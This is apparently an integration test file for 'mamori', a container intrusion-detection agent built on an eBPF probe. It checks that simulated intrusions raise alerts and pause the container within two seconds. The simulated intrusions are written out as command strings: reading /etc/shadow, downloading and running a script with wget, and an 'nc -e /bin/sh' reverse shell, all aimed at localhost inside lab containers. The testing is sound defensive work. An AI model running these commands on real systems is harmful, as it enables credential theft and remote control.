//! The agent end to end on a real Docker engine with the eBPF probe: two containers run the same
//! camera-like workload (scripts/lab/build-lab-image.sh), `mamori learn` learns the image from
//! one of them live, `mamori agent` watches both, then `docker exec` runs an intrusion in one.
//! The intruded container must alert within 2 s; the other must stay quiet. The probe's view of
//! the workload is also checked against strace's for the same run.
//!
//! Needs root, a kernel with BTF, dockerd and Debian's busybox-static; runs when
//! MAMORI_DOCKER_TESTS=1 (.ci/run starts dockerd and sets it).

mod common;

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::{docker, docker_tests_enabled as enabled};
use serde_json::Value;

const IMAGE: &str = "mamori-lab-bb";

use common::repo;

/// Removes the test's containers however the test ends.
struct Containers(Vec<String>);

impl Containers {
    fn run(names: &[&str]) -> Self {
        let status = Command::new(repo().join("scripts/lab/build-lab-image.sh"))
            .arg(IMAGE)
            .status()
            .expect("build-lab-image.sh runs");
        assert!(status.success(), "building the lab image failed");
        let c = Containers(names.iter().map(|s| s.to_string()).collect());
        for name in names {
            let _ = Command::new("docker").args(["rm", "-f", name]).output();
            docker(&["run", "-d", "--name", name, "--network", "none", IMAGE]);
        }
        c
    }
}

impl Drop for Containers {
    fn drop(&mut self) {
        for name in &self.0 {
            let _ = Command::new("docker").args(["rm", "-f", name]).output();
        }
    }
}

use common::mamori;

struct Agent(Child);

impl Agent {
    /// Waits until the agent reports it is watching, then echoes the rest of its stderr.
    fn wait_until_watching(&mut self) {
        let stderr = self.0.stderr.take().expect("the agent's stderr is piped");
        let mut lines = BufReader::new(stderr).lines();
        let started = Instant::now();
        loop {
            let line = lines
                .next()
                .expect("agent stderr")
                .expect("agent stderr line");
            eprintln!("agent: {line}");
            if line.contains("agent watching") {
                break;
            }
            assert!(
                started.elapsed() < Duration::from_secs(30),
                "agent did not start"
            );
        }
        std::thread::spawn(move || {
            for line in lines.map_while(Result::ok) {
                eprintln!("agent: {line}");
            }
        });
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        terminate(&mut self.0);
    }
}

/// Sends SIGTERM to a child this test started and reaps it; kills it if it has not ended within
/// 10 s, so a tracer or agent that cannot stop never hangs the test run.
fn terminate(child: &mut Child) {
    // SAFETY: kill only signals a process this test started and has not yet reaped.
    unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGTERM) };
    if wait_within(child, Duration::from_secs(10)).is_none() {
        eprintln!("process {} ignored SIGTERM for 10 s; killed it", child.id());
    }
}

/// The child's exit status if it ends within `limit`; otherwise kills and reaps it and returns
/// `None`.
fn wait_within(child: &mut Child, limit: Duration) -> Option<std::process::ExitStatus> {
    let deadline = Instant::now() + limit;
    while Instant::now() < deadline {
        if let Ok(Some(status)) = child.try_wait() {
            return Some(status);
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let _ = child.kill();
    let _ = child.wait();
    None
}

/// `mamori learn` on a running container, live, into the model directory `models`.
fn learn_live(container: &str, duration: &str, models: &Path) {
    succeeds(
        mamori()
            .args(["learn", "--container", container, "--duration", duration])
            .args(["--quiet", "--models"])
            .arg(models),
    );
}

/// Runs a mamori command to its end; fails the test with its stderr unless it succeeds within
/// two minutes (every command here is given a duration well under that).
fn succeeds(command: &mut Command) {
    let mut child = command
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("mamori runs");
    let mut stderr = child.stderr.take().expect("stderr is piped");
    let reader = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = stderr.read_to_string(&mut text);
        text
    });
    let status = wait_within(&mut child, Duration::from_secs(120));
    let stderr = reader.join().unwrap_or_default();
    match status {
        Some(s) => assert!(s.success(), "{command:?} failed ({s}): {stderr}"),
        None => panic!("{command:?} did not end within 120 s: {stderr}"),
    }
}

fn alerts_in(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

fn http_get(addr: &str, path: &str) -> (u16, String) {
    let mut s = std::net::TcpStream::connect(addr).expect("connect to the agent");
    s.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("timeout");
    write!(s, "GET {path} HTTP/1.0\r\nHost: x\r\n\r\n").expect("request");
    let mut text = String::new();
    s.read_to_string(&mut text).expect("response");
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let body = text.split("\r\n\r\n").nth(1).unwrap_or("").to_string();
    (status, body)
}

fn metric(body: &str, name: &str, container: &str) -> f64 {
    let prefix = format!("{name}{{container=\"{container}\",");
    body.lines()
        .find(|l| l.starts_with(&prefix))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0.0)
}

#[test]
fn agent_learns_a_container_and_alerts_on_an_intrusion_within_two_seconds() {
    if !enabled() {
        return;
    }
    let (a, b) = ("mamori-lab-a", "mamori-lab-b");
    let _containers = Containers::run(&[a, b]);
    let dir = std::env::temp_dir().join(format!("mamori-agent-test-{}", std::process::id()));
    let models = dir.join("models");
    std::fs::create_dir_all(&models).expect("model dir");

    // learn the image from container a, live
    learn_live(a, "40s", &models);
    let model = models.join(format!("{IMAGE}.model"));
    assert!(model.exists(), "learn wrote {}", model.display());

    let alerts = dir.join("alerts.jsonl");
    let listen = "127.0.0.1:19464";
    let mut agent = Agent(
        mamori()
            .args([
                "agent",
                "--quiet",
                "--listen",
                listen,
                "--on-alert",
                "pause",
                // only this test's containers: the other tests run the same image at the same
                // time, and pausing the one strace follows would leave strace unable to detach
                "--container",
                a,
                "--container",
                b,
                "--models",
            ])
            .arg(&models)
            .arg("--alerts")
            .arg(&alerts)
            .stderr(Stdio::piped())
            .spawn()
            .expect("mamori agent starts"),
    );
    agent.wait_until_watching();

    // quiet period: normal operation of both containers
    std::thread::sleep(Duration::from_secs(15));
    let before = alerts_in(&alerts);
    eprintln!("alerts during normal operation: {before:?}");

    let intrusion = "id; cat /etc/shadow; wget -q -O /tmp/.x http://127.0.0.1:8080/fw.sh; \
                     chmod +x /tmp/.x; /tmp/.x; ps; kill -0 1";
    // a false alarm in the quiet period (at most one is tolerated below) has already paused a
    if docker(&["inspect", "-f", "{{.State.Paused}}", a]) == "true" {
        eprintln!("a was paused after a false alarm; unpausing it for the intrusion");
        docker(&["unpause", a]);
    }
    let t0 = Instant::now();
    // Not waited for: the agent may pause the container while the intrusion still runs (the
    // response under test), which freezes `docker exec` until the container is unpaused.
    let _exec = KillOnDrop(
        Command::new("docker")
            .args(["exec", a, "sh", "-c", intrusion])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("docker exec runs"),
    );
    let mut latency = None;
    while t0.elapsed() < Duration::from_secs(10) {
        if alerts_in(&alerts).len() > before.len()
            && alerts_in(&alerts)[before.len()..]
                .iter()
                .any(|x| x["subject"]["name"] == a && x["record"] == "alert")
        {
            latency = Some(t0.elapsed());
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let latency = latency.expect("an alert for the intruded container");
    eprintln!("alert after {:.3}s", latency.as_secs_f64());
    assert!(latency <= Duration::from_secs(2), "alert took {latency:?}");
    let new: Vec<Value> = alerts_in(&alerts)[before.len()..].to_vec();
    let first = new
        .iter()
        .find(|x| x["subject"]["name"] == a && x["record"] == "alert")
        .expect("alert for a");
    for field in ["time", "detector", "score", "threshold", "evidence"] {
        assert!(!first[field].is_null(), "alert has {field}: {first}");
    }
    // the first alert is a window model's (with its reasons) or a context signal's (a program
    // the container never ran in training, or a request its server never answered, named)
    if first["source"] == "context" {
        let message = first["evidence"]["message"].as_str().unwrap_or("");
        assert!(
            message.starts_with("a program never run in training: ")
                || message.starts_with("a request never seen in training: "),
            "{first}"
        );
    } else {
        assert_eq!(first["source"], "syscalls", "{first}");
        for field in ["window", "top_classes", "processes"] {
            assert!(
                !first["evidence"][field].is_null(),
                "alert evidence has {field}: {first}"
            );
        }
    }
    assert_eq!(first["record"], "alert");
    assert_eq!(first["subject"]["kind"], "container");
    assert!(!first["subject"]["id"].is_null());
    assert_eq!(first["subject"]["image"], IMAGE);

    // --on-alert pause: the intruded container is frozen, with a response incident that holds
    // the alert, the container's log tail and state, and the pause's timing
    let t1 = Instant::now();
    while docker(&["inspect", "-f", "{{.State.Paused}}", a]) != "true" {
        assert!(t1.elapsed() < Duration::from_secs(10), "{a} was not paused");
        std::thread::sleep(Duration::from_millis(50));
    }
    let response = loop {
        let found = alerts_in(&alerts)
            .into_iter()
            .find(|r| r["record"] == "incident" && r["kind"] == "response");
        if let Some(r) = found {
            break r;
        }
        assert!(
            t1.elapsed() < Duration::from_secs(10),
            "no response incident"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    assert_eq!(response["subject"]["name"], a, "{response}");
    let source = &response["alerts"][0]["source"];
    assert!(source == "syscalls" || source == "context", "{response}");
    assert_eq!(
        response["evidence"]["container_state"]["state"]["Running"],
        true
    );
    let acts: Vec<&str> = response["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["action"].as_str().unwrap())
        .collect();
    assert_eq!(acts, vec!["collect-evidence", "pause"], "{response}");
    assert_eq!(response["actions"][1]["outcome"], "succeeded");

    // the other container keeps running its normal workload
    std::thread::sleep(Duration::from_secs(10));
    let all = alerts_in(&alerts);
    let b_alerts: Vec<&Value> = all.iter().filter(|x| x["subject"]["name"] == b).collect();
    assert!(
        b_alerts.is_empty(),
        "the untouched container alerted: {b_alerts:?}"
    );
    let a_normal = before
        .iter()
        .filter(|x| x["subject"]["name"] == a && x["record"] == "alert")
        .count();
    assert!(
        a_normal <= 1,
        "false alarms on a during normal operation: {before:?}"
    );

    let (status, body) = http_get(listen, "/metrics");
    assert_eq!(status, 200);
    for c in [a, b] {
        assert!(
            metric(&body, "mamori_events_total", c) > 100.0,
            "events of {c}:\n{body}"
        );
        assert!(
            metric(&body, "mamori_windows_scored_total", c) > 10.0,
            "windows of {c}"
        );
    }
    assert!(metric(&body, "mamori_alerts_total", a) >= 1.0);
    assert_eq!(metric(&body, "mamori_alerts_total", b), 0.0);
    assert!(
        body.contains("mamori_probe_dropped_total{cpu=\"0\"} 0"),
        "{body}"
    );
    let (status, body) = http_get(listen, "/healthz");
    assert_eq!((status, body.trim()), (200, "ok"));
}

/// The request signal live. `mamori learn` records what each connection to the container's
/// server asked for (the probe reports a new connection's first data), so the model knows the
/// workload's own request (`GET /index.html` on 8080). A request for a page it never served
/// then alerts at once, named, while the same program (`wget`) fetching the known page does not.
/// Then a remote shell: each command it reads from the network alerts, quoted.
#[test]
fn agent_names_a_request_the_container_never_served_in_training() {
    if !enabled() {
        return;
    }
    let c = "mamori-lab-req";
    let _containers = Containers::run(&[c]);
    let dir = std::env::temp_dir().join(format!("mamori-req-test-{}", std::process::id()));
    let models = dir.join("models");
    std::fs::create_dir_all(&models).expect("model dir");
    learn_live(c, "30s", &models);
    let model = models.join(format!("{IMAGE}.model"));
    let shown = mamori()
        .args(["model", "show", "--json"])
        .arg(&model)
        .output()
        .expect("mamori model show runs");
    let shown: Value = serde_json::from_slice(&shown.stdout).expect("model show --json");
    let context = &shown["context"];
    assert_eq!(context["saw_received_data"], true, "{context}");
    assert!(
        context["requests"]
            .as_array()
            .is_some_and(|r| r.iter().any(|x| x == "8080 GET /index.html")),
        "the workload's request was learned live: {context}"
    );

    let alerts = dir.join("alerts.jsonl");
    let listen = "127.0.0.1:19465";
    let mut agent = Agent(
        mamori()
            .args([
                "agent",
                "--quiet",
                "--listen",
                listen,
                "--container",
                c,
                "--models",
            ])
            .arg(&models)
            .arg("--alerts")
            .arg(&alerts)
            .stderr(Stdio::piped())
            .spawn()
            .expect("mamori agent starts"),
    );
    agent.wait_until_watching();
    let request_alerts = |from: usize| -> Vec<Value> {
        alerts_in(&alerts)
            .into_iter()
            .skip(from)
            .filter(|x| {
                x["record"] == "alert"
                    && x["source"] == "context"
                    && x["evidence"]["message"]
                        .as_str()
                        .is_some_and(|m| m.starts_with("a request never seen in training"))
            })
            .collect()
    };
    // the workload keeps fetching /index.html: known, not raised
    std::thread::sleep(Duration::from_secs(10));
    assert!(
        request_alerts(0).is_empty(),
        "the workload's own requests alerted: {:?}",
        request_alerts(0)
    );
    let before = alerts_in(&alerts).len();

    let t0 = Instant::now();
    let _probe = KillOnDrop(
        Command::new("docker")
            .args(["exec", c, "wget", "-q", "-O", "/dev/null"])
            .arg("http://127.0.0.1:8080/cgi-bin/admin.cgi?cmd=1")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("docker exec runs"),
    );
    let alert = loop {
        if let Some(a) = request_alerts(before).into_iter().next() {
            break a;
        }
        assert!(
            t0.elapsed() < Duration::from_secs(10),
            "no request alert; alerts since: {:?}",
            &alerts_in(&alerts)[before..]
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    let latency = t0.elapsed();
    eprintln!("request alert after {:.3}s: {alert}", latency.as_secs_f64());
    assert!(latency <= Duration::from_secs(2), "alert took {latency:?}");
    assert_eq!(
        alert["evidence"]["message"],
        "a request never seen in training: 8080 GET /cgi-bin/admin.cgi?cmd",
        "{alert}"
    );
    assert_eq!(alert["subject"]["name"], c, "{alert}");
    // the agent refreshes its metrics every second
    std::thread::sleep(Duration::from_millis(1500));
    let (status, body) = http_get(listen, "/metrics");
    assert_eq!(status, 200);
    assert!(
        metric(&body, "mamori_context_alerts_total", c) >= 1.0,
        "{body}"
    );
    assert!(metric(&body, "mamori_alerts_total", c) >= 1.0, "{body}");

    // A remote shell: `nc -e /bin/sh` connects out and runs a shell on the connection, whose
    // standard input is then the socket; a listener in the same container plays the attacker
    // and sends two commands. The probe reads what the shell reads, and each line alerts,
    // quoted, at the time the shell reads it.
    let before = alerts_in(&alerts).len();
    let t0 = Instant::now();
    let _shell = KillOnDrop(
        Command::new("docker")
            .args(["exec", c, "sh", "-c"])
            .arg(
                "(sleep 1; echo 'cat /etc/shadow'; sleep 1; echo exit; sleep 1) \
                 | nc -l -p 4444 >/dev/null & sleep 0.5; nc 127.0.0.1 4444 -e /bin/sh; wait",
            )
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("docker exec runs"),
    );
    let commands = |from: usize| -> Vec<String> {
        alerts_in(&alerts)
            .into_iter()
            .skip(from)
            .filter(|x| x["record"] == "alert" && x["detector"] == "network-stdin")
            .filter_map(|x| x["evidence"]["data"]["what"].as_str().map(str::to_string))
            .collect()
    };
    while commands(before).len() < 2 {
        assert!(
            t0.elapsed() < Duration::from_secs(15),
            "the remote shell's commands did not alert; alerts since: {:?}",
            &alerts_in(&alerts)[before..]
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(
        commands(before),
        ["->4444: cat /etc/shadow", "->4444: exit"],
        "{:?}",
        &alerts_in(&alerts)[before..]
    );
}

#[test]
fn probe_and_strace_see_the_same_calls_of_a_container() {
    if !enabled() {
        return;
    }
    let c = "mamori-lab-cmp";
    let _containers = Containers::run(&[c]);
    let dir = std::env::temp_dir().join(format!("mamori-cmp-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let pid = docker(&["inspect", "-f", "{{.State.Pid}}", c]);
    // strace follows the container's main process and the children it starts; the probe sees
    // the whole cgroup. The same run is compared: threads strace saw, over the time both ran.
    let strace_out = dir.join("strace.txt");
    let mut strace = Command::new("strace")
        .args(["-f", "-q", "-ttt", "-o"])
        .arg(&strace_out)
        .args(["-p", &pid])
        .spawn()
        .expect("strace starts");
    std::thread::sleep(Duration::from_millis(500));
    let capture = dir.join("probe.jsonl");
    succeeds(
        mamori()
            .args([
                "capture",
                "--container",
                c,
                "--duration",
                "8s",
                "--quiet",
                "-o",
            ])
            .arg(&capture),
    );
    std::thread::sleep(Duration::from_millis(500));
    terminate(&mut strace);

    let probe: Vec<(String, u32, i64)> = std::fs::read_to_string(&capture)
        .expect("capture file")
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .map(|v| {
            (
                v["syscall"].as_str().unwrap_or("").to_string(),
                v["tid"].as_u64().unwrap_or(0) as u32,
                v["time_ns"].as_i64().unwrap_or(0),
            )
        })
        .collect();
    let reader = mamori_ingest::EventReader::new(
        BufReader::new(std::fs::File::open(&strace_out).expect("strace file")),
        "strace",
        mamori_ingest::Format::Strace,
        true,
    );
    let traced: Vec<(String, u32, i64)> = reader
        .flatten()
        .map(|e| (e.syscall, e.tid.unwrap_or(0), e.time_ns.unwrap_or(0)))
        .collect();
    assert!(
        probe.len() > 500,
        "the probe captured the workload: {} calls",
        probe.len()
    );
    // the probe ran inside strace's span; drop 200 ms at each end for start-up skew
    let lo = probe.iter().map(|p| p.2).min().unwrap_or(0) + 200_000_000;
    let hi = probe.iter().map(|p| p.2).max().unwrap_or(0) - 200_000_000;
    let tids: std::collections::BTreeSet<u32> = traced.iter().map(|t| t.1).collect();
    let count = |calls: &[(String, u32, i64)]| -> BTreeMap<String, u64> {
        let mut m = BTreeMap::new();
        for (name, tid, t) in calls {
            if tids.contains(tid) && (lo..=hi).contains(t) {
                *m.entry(name.clone()).or_default() += 1;
            }
        }
        m
    };
    let (p, s) = (count(&probe), count(&traced));
    let (p_total, s_total): (u64, u64) = (p.values().sum(), s.values().sum());
    eprintln!(
        "same threads, same {:.1}s: probe {p_total} calls, strace {s_total}",
        (hi - lo) as f64 / 1e9
    );
    assert!(s_total > 300, "strace saw the workload: {s_total}");
    let mut checked = 0;
    for (name, &n) in &s {
        let got = p.get(name).copied().unwrap_or(0);
        eprintln!("{name:>16}: strace {n:>6} probe {got:>6}");
        // calls straddling the window's edges may fall on either side for either tracer
        let tolerance = (n as f64 * 0.05).max(3.0);
        assert!(
            (got as f64 - n as f64).abs() <= tolerance,
            "{name}: strace {n}, probe {got}"
        );
        checked += 1;
    }
    for (name, &n) in &p {
        assert!(
            s.contains_key(name) || n <= 3,
            "{name}: probe {n}, strace none"
        );
    }
    assert!(checked >= 8, "compared {checked} syscalls");
}

/// A child process killed (and reaped) when the test ends, however it ends.
struct KillOnDrop(Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}
